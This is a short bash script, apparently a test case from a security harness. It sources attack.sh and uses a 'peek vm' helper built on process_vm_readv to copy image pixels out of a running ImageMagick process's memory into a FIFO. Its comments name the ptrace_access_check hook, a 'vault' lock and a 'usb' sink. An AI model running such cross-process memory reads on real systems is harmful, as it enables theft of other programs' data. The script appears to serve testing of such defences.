#!/usr/bin/env bash
# technique: process_vm_readv takes the pixels out of the memory of the named program
# hooks: ptrace_access_check
# lock: vault
# sink: usb

. attack.sh
mkfifo "$ROOM/slow"
peek vm "$COPY" - convert-im6.q16 "$MASTER" "rgb:$ROOM/slow"
